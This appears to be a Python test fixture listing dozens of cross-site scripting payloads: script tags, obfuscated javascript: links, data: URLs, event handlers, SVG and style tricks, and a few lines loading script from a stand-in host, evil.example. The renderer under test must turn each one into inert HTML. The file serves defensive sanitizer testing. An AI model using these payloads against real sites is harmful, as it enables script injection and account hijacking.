"""Hostile statement sources: each must render to inert HTML."""

XSS_PAYLOADS: list[str] = [
    # script tags and variants
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "text\n\n<script>alert(1)</script>\n\nmore text",
    # javascript: in Markdown links and autolinks
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "<javascript:alert(1)>",
    "[a](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](javascript://%0Aalert(1))",
    "[x](javascript&colon;alert(1))",
    # entity- and whitespace-obfuscated javascript:
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#9;ascript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](<jav\tascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    # data: URLs
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<a onmouseover=alert(1)>hover</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "[x](https://example.org \"title\" onmouseover=alert(1))",
    "[x](https://example.org\"onmouseover=\"alert(1))",
    '[x](https://example.org "a" onclick="alert(1)")',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # style tricks
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<STYLE>@import'//evil.example/x.css';</STYLE>",
    # embedding, navigation and forms
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    # broken and unclosed markup
    "<img src=x onerror=alert(1)",
    "<a href=\"javascript:alert(1)",
    "<script",
    "<<img src=x onerror=alert(1)//<",
    "<a href='x' onclick='alert(1)'",
    # reference-style links and images
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "[evil]\n\n[evil]: <javascript:alert(1)> \"t\"",
    "![x][img]\n\n[img]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](https://example.org/a.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    # comments and CDATA
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    # tables containing HTML
    "| a | b |\n|---|---|\n"
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "| [x](javascript:alert(1)) | <svg onload=alert(1)> |\n|---|---|\n| 1 | 2 |",
    # markup inside code and emphasis
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "*<img src=x onerror=alert(1)>*",
    "**[x](javascript:alert(1))**",
    # evidence short codes next to hostile markup
    "<script>alert(1)</script>\n[[poll:12:3]]",
    "[[poll:12:3]]<svg onload=alert(1)>",
]
